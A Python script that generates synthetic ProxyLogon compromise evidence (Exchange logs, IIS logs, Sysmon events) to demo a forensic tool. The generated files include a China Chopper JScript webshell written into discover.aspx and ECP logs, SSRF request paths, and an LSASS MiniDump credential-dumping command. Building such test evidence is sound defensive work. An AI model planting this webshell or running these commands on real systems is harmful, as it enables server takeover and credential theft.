"""Write the SYNTHETIC demo evidence under demo/evidence (deterministic; re-run to regenerate).

Every file here was written by the lekdicht team. It imitates a collected Exchange 2016 server
(a copy of C:\\ laid out as a collector would) that was broken into through ProxyLogon on
2021-03-03: SSRF in the HttpProxy logs, the OAB virtual-directory webshell write in the ECP log
and the MSExchange Management event log, POSTs to static files and webshell use in the IIS log, a
webshell in aspnet_client, and post-exploitation process events. Benign traffic from ordinary users
surrounds it. Addresses are from the documentation ranges (RFC 5737), names are made up.
"""

from __future__ import annotations

import json
import shutil
import zlib
from pathlib import Path

from lekdicht.synth import ECP_FIELDS, EWS_FIELDS, HTTPPROXY_FIELDS, csv_line, exchange_header

ROOT = Path(__file__).resolve().parent / "evidence"
EX = "C/Program Files/Microsoft/Exchange Server/V15"
BUILD_HDR = "15.01.2106.002"
ATTACKER = "203.0.113.37"
ATTACKER_UA = "python-requests/2.25.1"
HOST = "EXCH01"
DOMAIN = "example.org"


USERS = ["anna.devries", "bram.jansen", "chris.peters", "dewi.bakker", "eva.smit", "finn.visser"]
OUTLOOK_UA = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13127; Pro)"
BROWSER_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"


def _proxy(
    ts: str,
    n: int,
    protocol: str,
    stem: str,
    user: str,
    anchor: str,
    ua: str,
    ip: str,
    status: str,
    method: str = "POST",
    query: str = "",
    cookie: str = "",
    auth: str = "true",
    rbytes: str = "512",
) -> str:
    row = dict.fromkeys(HTTPPROXY_FIELDS, "")
    row.update(
        DateTime=ts,
        RequestId=f"{n:08x}-1c2d-4e5f-8a9b-{n:012x}",
        MajorVersion="15",
        MinorVersion="1",
        BuildVersion="2106",
        RevisionVersion="2",
        Protocol=protocol,
        UrlHost=f"mail.{DOMAIN}",
        UrlStem=stem,
        AuthenticationType="Negotiate" if auth == "true" else "",
        IsAuthenticated=auth,
        AuthenticatedUser=f"{user}@{DOMAIN}" if user else "",
        AnchorMailbox=anchor,
        UserAgent=ua,
        ClientIpAddress=ip,
        ServerHostName=HOST,
        HttpStatus=status,
        BackEndStatus=status,
        Method=method,
        ProxyAction="Proxy",
        TargetServer=f"{HOST.lower()}.{DOMAIN}",
        TargetServerVersion="15.01.2106.000",
        RoutingType="ServerInfo" if anchor.startswith("ServerInfo~") else "Smtp",
        BackEndCookie=cookie,
        RequestBytes="1024",
        ResponseBytes=rbytes,
        UrlQuery=query,
        GenericInfo="",
        TotalRequestTime="31",
    )
    return csv_line([row[f] for f in HTTPPROXY_FIELDS])


def httpproxy_ecp() -> str:
    lines = [exchange_header("HttpProxy Logs", "2021-03-03T02:00:01.104Z", HTTPPROXY_FIELDS, BUILD_HDR)]
    n = 1
    for i, user in enumerate(USERS[:3]):
        lines.append(
            _proxy(
                f"2021-03-03T02:0{i}:12.{100 + i}Z",
                n,
                "Ecp",
                "/ecp/",
                user,
                f"Smtp~{user}@{DOMAIN}",
                BROWSER_UA,
                f"198.51.100.{20 + i}",
                "200",
                "GET",
            )
        )
        n += 1
    attack = [
        (
            "2021-03-03T02:10:41.311Z",
            "/ecp/y.js",
            f"ServerInfo~{HOST.lower()}.{DOMAIN}:444/autodiscover/autodiscover.xml?#",
            "200",
        ),
        (
            "2021-03-03T02:10:44.902Z",
            "/ecp/y.js",
            f"ServerInfo~{HOST.lower()}.{DOMAIN}:444/mapi/emsmdb?#",
            "200",
        ),
        (
            "2021-03-03T02:10:47.518Z",
            "/ecp/y.js",
            f"ServerInfo~{HOST.lower()}.{DOMAIN}:444/ecp/proxyLogon.ecp?#",
            "241",
        ),
        (
            "2021-03-03T02:10:52.077Z",
            "/ecp/y.js",
            f"ServerInfo~{HOST.lower()}.{DOMAIN}:444/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=x#",
            "200",
        ),
        (
            "2021-03-03T02:10:55.634Z",
            "/ecp/y.js",
            f"ServerInfo~{HOST.lower()}.{DOMAIN}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x#",
            "200",
        ),
        (
            "2021-03-03T02:11:09.120Z",
            "/ecp/y.js",
            f"ServerInfo~{HOST.lower()}.{DOMAIN}:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x#",
            "200",
        ),
    ]
    for ts, stem, anchor, status in attack:
        lines.append(
            _proxy(
                ts,
                n,
                "Ecp",
                stem,
                "",
                anchor,
                ATTACKER_UA,
                ATTACKER,
                status,
                auth="false",
                cookie=f"Server~{anchor.split('~', 1)[1].split('#')[0]}~1942062522",
            )
        )
        n += 1
    for i, user in enumerate(USERS[3:]):
        lines.append(
            _proxy(
                f"2021-03-03T02:3{i}:02.{200 + i}Z",
                n,
                "Ecp",
                "/ecp/PersonalSettings/HomePage.aspx",
                user,
                f"Smtp~{user}@{DOMAIN}",
                BROWSER_UA,
                f"198.51.100.{40 + i}",
                "200",
                "GET",
            )
        )
        n += 1
    return "\r\n".join(lines) + "\r\n"


def httpproxy_autodiscover() -> str:
    lines = [exchange_header("HttpProxy Logs", "2021-03-02T23:00:00.512Z", HTTPPROXY_FIELDS, BUILD_HDR)]
    n = 100
    for i, user in enumerate(USERS):
        lines.append(
            _proxy(
                f"2021-03-02T23:{10 + i}:00.{300 + i}Z",
                n,
                "Autodiscover",
                "/autodiscover/autodiscover.xml",
                user,
                f"Smtp~{user}@{DOMAIN}",
                OUTLOOK_UA,
                f"198.51.100.{20 + i}",
                "200",
            )
        )
        n += 1
    lines.append(
        _proxy(
            "2021-03-02T23:41:19.008Z",
            n,
            "Autodiscover",
            "/owa/auth/x.js",
            "",
            "ServerInfo~localhost/ecp/default.flt?~3",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "192.0.2.99",
            "500",
            "GET",
            auth="false",
        )
    )
    lines.append(
        _proxy(
            "2021-03-02T23:55:31.771Z",
            n + 1,
            "Autodiscover",
            "/ecp/target.js",
            "",
            "ServerInfo~exch01.example.org/autodiscover/autodiscover.xml?#",
            "python-requests/2.25.1",
            "192.0.2.145",
            "200",
            auth="false",
        )
    )
    return "\r\n".join(lines) + "\r\n"


def httpproxy_owa() -> str:
    lines = [exchange_header("HttpProxy Logs", "2021-03-03T08:00:00.002Z", HTTPPROXY_FIELDS, BUILD_HDR)]
    for i, user in enumerate(USERS * 3):
        lines.append(
            _proxy(
                f"2021-03-03T08:{i:02d}:17.{400 + i}Z",
                200 + i,
                "Owa",
                "/owa/service.svc",
                user,
                f"Smtp~{user}@{DOMAIN}",
                BROWSER_UA,
                f"198.51.100.{20 + i % 6}",
                "200",
                query="?action=GetFolderMruConfiguration&app=Mail",
                rbytes=str(2000 + 37 * i),
            )
        )
    return "\r\n".join(lines) + "\r\n"


def ecp_server() -> str:
    lines = [exchange_header("ECP Server Log", "2021-03-03T00:00:04.219Z", ECP_FIELDS, version="15.0.0.0")]
    benign = (
        "S:TIME=13;S:SID=6a0c1e1f-2b7e-4f42-8a0e-0c1d1e1f2a2b;S:CMD=Get-InboxRule;S:REQID=;"
        "S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=CANARY;S:REFERRER=;S:EX=;"
        "S:ACTID=9f3a1b2c-0000-4000-8000-000000000001;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;S:USID=;S:EDOID=;S:ACID="
    )
    lines.append(csv_line(["2021-03-03T01:12:40.966Z", HOST, "ECP.Request", benign]))
    admin = (
        "S:TIME=210;S:SID=;S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.example.org/owa'"
        ".Identity='EXCH01\\owa (Default Web Site)';S:URL=/ecp/DDI/DDIService.svc/SetObject;S:BLD=15.1.2106.2"
    )
    lines.append(csv_line(["2021-03-03T01:20:02.410Z", HOST, "ECP.Request", admin]))
    shell_cmd = (
        'S:TIME=341;S:SID=;S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'http://f/<script language="JScript" '
        'runat="server">function Page_Load(){eval(Request["k3y"],"unsafe");}</script>\''
        ".Identity='0f9a3c1e-3f7b-4c36-9c1b-7d5e4a3b2c10';S:URL=/ecp/DDI/DDIService.svc/SetObject"
        "?schema=OABVirtualDirectory;S:BLD=15.1.2106.2"
    )
    lines.append(csv_line(["2021-03-03T02:10:56.001Z", HOST, "ECP.Request", shell_cmd]))
    return "\r\n".join(lines) + "\r\n"


IIS_FIELDS = (
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
    "cs(Referer) sc-status sc-substatus sc-win32-status time-taken"
)


def _w3c_ua(ua: str) -> str:
    return ua.replace(" ", "+")


def iis_front() -> str:
    lines = [
        "#Software: Microsoft Internet Information Services 10.0",
        "#Version: 1.0",
        "#Date: 2021-03-03 00:00:00",
        f"#Fields: {IIS_FIELDS}",
    ]
    for i, user in enumerate(USERS):
        lines.append(
            f"2021-03-03 01:{10 + i}:05 10.0.0.5 GET /owa/ &ClientId=ABC{i}&exlogId=x 443 "
            f"EXAMPLE\\{user} 198.51.100.{20 + i} {_w3c_ua(BROWSER_UA)} - 200 0 0 {40 + i}"
        )
        lines.append(
            f"2021-03-03 01:{10 + i}:06 10.0.0.5 GET /owa/auth/logon.aspx "
            f"url=https%3a%2f%2fmail.example.org%2fowa%2f&reason=0 443 - 198.51.100.{20 + i} "
            f"{_w3c_ua(BROWSER_UA)} - 200 0 0 15"
        )
    lines += [
        f"2021-03-03 02:10:41 10.0.0.5 POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId=2c1d;&encoding=; 443 - "
        f"{ATTACKER} {ATTACKER_UA} - 200 0 0 87",
        f"2021-03-03 02:10:44 10.0.0.5 POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId=2c1e;&encoding=; 443 - "
        f"{ATTACKER} {ATTACKER_UA} - 200 0 0 65",
        f"2021-03-03 02:11:09 10.0.0.5 POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId=2c22;&encoding=; 443 - "
        f"{ATTACKER} {ATTACKER_UA} - 200 0 0 301",
        f"2021-03-03 02:14:31 10.0.0.5 POST /aspnet_client/discover.aspx &CorrelationID=<empty>;&cafeReqId=2c30; 443 - "
        f"{ATTACKER} antSword/v2.1 - 200 0 0 118",
        f"2021-03-03 02:15:02 10.0.0.5 POST /aspnet_client/discover.aspx &CorrelationID=<empty>;&cafeReqId=2c31; 443 - "
        f"{ATTACKER} antSword/v2.1 - 200 0 0 2214",
        f"2021-03-03 02:13:02 10.0.0.5 GET /OAB/0f9a3c1e-3f7b-4c36-9c1b-7d5e4a3b2c10/oab.xml - 443 - {ATTACKER} "
        f"{ATTACKER_UA} - 200 0 0 12",
        f"2021-03-03 02:13:05 10.0.0.5 GET /OAB/0f9a3c1e-3f7b-4c36-9c1b-7d5e4a3b2c10/a1b2c3d4-data-1.lzx - 443 - "
        f"{ATTACKER} {ATTACKER_UA} - 200 0 0 341",
        "2021-03-03 04:02:11 10.0.0.5 GET /aspnet_client/shell.aspx - 443 - 192.0.2.200 "
        "Mozilla/5.0+(compatible;+scanner) - 404 0 2 1",
    ]
    for i, user in enumerate(USERS):
        lines.append(
            f"2021-03-03 08:{20 + i}:44 10.0.0.5 POST /EWS/Exchange.asmx - 443 EXAMPLE\\{user} "
            f"198.51.100.{20 + i} {_w3c_ua(OUTLOOK_UA)} - 200 0 0 {22 + i}"
        )
    return "\r\n".join(lines) + "\r\n"


OAB_WEBSHELL = (
    "OfflineAddressBooks: \\Default Offline Address Book\r\n"
    "RequireSSL: False\r\n"
    "BasicAuthentication: False\r\n"
    "WindowsAuthentication: True\r\n"
    "PollInterval: 480\r\n"
    "InternalUrl: https://exch01.example.org/OAB\r\n"
    "InternalAuthenticationMethods: WindowsIntegrated\r\n"
    'ExternalUrl: http://f/<script language="JScript" runat="server">function Page_Load()'
    '{eval(Request["k3y"],"unsafe");}</script>\r\n'
    "ExternalAuthenticationMethods: WindowsIntegrated\r\n"
    "ExtendedProtectionTokenChecking: None\r\n"
    "Name: OAB (Default Web Site)\r\n"
)


def oabgen() -> str:
    return (
        "2021-03-03T02:11:10.230Z,EXCH01,OABGenerator,Information,"
        "\"Download failed and temporary file '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' "
        'needs to be removed"\r\n'
        '2021-03-03T06:00:00.105Z,EXCH01,OABGenerator,Information,"OAB generation completed"\r\n'
    )


def events() -> str:
    mgmt = {
        "@timestamp": "2021-03-03T02:10:56.212Z",
        "Channel": "MSExchange Management",
        "EventID": 1,
        "Hostname": f"{HOST}.{DOMAIN}",
        "Provider": "MSExchange CmdletLogs",
        "RecordNumber": 5101,
        "Message": (
            "Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl "
            '"http://f/<script language=\\"JScript\\" runat=\\"server\\">function Page_Load()'
            '{eval(Request[\\"k3y\\"],\\"unsafe\\");}</script>" -Identity "0f9a3c1e".'
        ),
    }
    proc = {
        "@timestamp": "2021-03-03T02:16:40.501Z",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Hostname": f"{HOST}.{DOMAIN}",
        "Provider": "Microsoft-Windows-Sysmon",
        "RecordNumber": 88211,
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": "cmd /c cd /d C:\\inetpub\\wwwroot\\aspnet_client&whoami&echo [S]&cd&echo [E]",
        "ParentImage": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        "User": "NT AUTHORITY\\SYSTEM",
        "Message": "Process Create: RuleName: - UtcTime: 2021-03-03 02:16:40.501",
    }
    dump = {
        "@timestamp": "2021-03-03T02:19:12.993Z",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Hostname": f"{HOST}.{DOMAIN}",
        "Provider": "Microsoft-Windows-Sysmon",
        "RecordNumber": 88230,
        "Image": "C:\\Windows\\System32\\rundll32.exe",
        "CommandLine": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 624 C:\\windows\\temp\\lsass.dmp full",
        "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        "User": "NT AUTHORITY\\SYSTEM",
        "Message": "Process Create: RuleName: - UtcTime: 2021-03-03 02:19:12.993",
    }
    benign = {
        "@timestamp": "2021-03-03T07:00:01.000Z",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Hostname": f"{HOST}.{DOMAIN}",
        "Provider": "Microsoft-Windows-Sysmon",
        "RecordNumber": 90001,
        "Image": "C:\\Windows\\System32\\svchost.exe",
        "CommandLine": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
        "ParentImage": "C:\\Windows\\System32\\services.exe",
        "User": "NT AUTHORITY\\SYSTEM",
        "Message": "Process Create: RuleName: - UtcTime: 2021-03-03 07:00:01.000",
    }
    export = {
        "@timestamp": "2021-03-03T02:25:31.440Z",
        "Channel": "MSExchange Management",
        "EventID": 1,
        "Hostname": f"{HOST}.{DOMAIN}",
        "Provider": "MSExchange CmdletLogs",
        "RecordNumber": 5102,
        "Message": (
            'Cmdlet suceeded. Cmdlet New-MailboxExportRequest, parameters -Mailbox "bram.jansen@example.org" '
            '-FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\bj.aspx".'
        ),
    }
    return "".join(json.dumps(e) + "\n" for e in (mgmt, proc, dump, export, benign))


LOGON_ASPX = (
    '<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\r\n'
    "<!-- SYNTHETIC demo stand-in for Exchange's own logon page -->\r\n"
    '<html><head><title>Outlook</title><link rel="stylesheet" href="Current/themes/resources/logon.css"></head>\r\n'
    '<body><form action="/owa/auth.owa" method="POST"><input name="username"><input name="password" '
    'type="password"></form></body></html>\r\n'
)


def _ews(
    ts: str, ip: str, user: str, action: str, size: int, impersonated: str = "", ua: str = OUTLOOK_UA
) -> str:
    row = dict.fromkeys(EWS_FIELDS, "")
    row.update(
        DateTime=ts,
        RequestId=f"e{zlib.crc32((ts + action).encode()):08x}",
        MajorVersion="15",
        MinorVersion="1",
        BuildVersion="2106",
        RevisionVersion="2",
        AuthenticationType="Negotiate",
        IsAuthenticated="true",
        AuthenticatedUser=user,
        UserAgent=ua,
        ClientIpAddress=ip,
        ServerHostName=HOST,
        FrontEndServer=HOST,
        SoapAction=action,
        HttpStatus="200",
        RequestSize="812",
        ResponseSize=str(size),
        ImpersonatedUser=impersonated,
    )
    return csv_line([row[f] for f in EWS_FIELDS])


def ews() -> str:
    lines = [exchange_header("EWS Logs", "2021-03-03T02:00:00.000Z", EWS_FIELDS, BUILD_HDR)]
    rows = []
    for i, user in enumerate(USERS):
        rows.append(
            _ews(
                f"2021-03-03T02:{5 + i:02d}:10.{100 + i}Z",
                f"198.51.100.{20 + i}",
                f"{user}@{DOMAIN}",
                "FindItem",
                4100 + 13 * i,
            )
        )
        rows.append(
            _ews(
                f"2021-03-03T02:{5 + i:02d}:11.{100 + i}Z",
                f"198.51.100.{20 + i}",
                f"{user}@{DOMAIN}",
                "GetItem",
                8800 + 17 * i,
            )
        )
    theft = [
        ("2021-03-03T02:12:21.004Z", "FindItem", 5120, "anna.devries"),
        ("2021-03-03T02:12:22.518Z", "GetItem", 88214, "anna.devries"),
        ("2021-03-03T02:12:24.090Z", "GetAttachment", 1311220, "anna.devries"),
        ("2021-03-03T02:12:40.771Z", "FindItem", 4980, "eva.smit"),
        ("2021-03-03T02:12:42.306Z", "GetItem", 61402, "eva.smit"),
    ]
    for ts, action, size, who in theft:
        rows.append(
            _ews(
                ts,
                ATTACKER,
                "NT AUTHORITY\\SYSTEM",
                action,
                size,
                f"{who}@{DOMAIN}",
                ua="ExchangeServicesClient/0.0.0.0",
            )
        )
    return lines[0] + "".join(r + "\r\n" for r in sorted(rows))


def write_all(root: Path = ROOT) -> None:
    if root.exists():
        shutil.rmtree(root)
    files = {
        "SYNTHETIC-EVIDENCE.txt": (
            "SYNTHETIC DEMO EVIDENCE, written by the lekdicht team (demo/make_demo.py).\n"
            "Not from a real server. It imitates an Exchange 2016 server broken into through ProxyLogon on\n"
            "2021-03-03. The webshell file in inetpub/wwwroot/aspnet_client is a synthetic sample of the\n"
            "public China Chopper one-liner; antivirus software may flag it. It is inert outside IIS.\n"
        ),
        f"{EX}/Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG": "\ufeff" + httpproxy_ecp(),
        f"{EX}/Logging/HttpProxy/Autodiscover/HttpProxy_2021030223-1.LOG": "\ufeff"
        + httpproxy_autodiscover(),
        f"{EX}/Logging/HttpProxy/Owa/HttpProxy_2021030308-1.LOG": "\ufeff" + httpproxy_owa(),
        f"{EX}/Logging/ECP/Server/ECPServer20210303-1.LOG": "\ufeff" + ecp_server(),
        f"{EX}/Logging/Ews/Ews_2021030302-1.LOG": "\ufeff" + ews(),
        f"{EX}/Logging/OABGeneratorLog/OABGenerator_20210303-1.LOG": oabgen(),
        f"{EX}/FrontEnd/HttpProxy/owa/auth/logon.aspx": LOGON_ASPX,
        "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log": iis_front(),
        "C/inetpub/wwwroot/aspnet_client/discover.aspx": OAB_WEBSHELL,
        "collected-events/exchange-server-events.jsonl": events(),
    }
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))


if __name__ == "__main__":
    write_all()
    print(f"wrote {ROOT}")
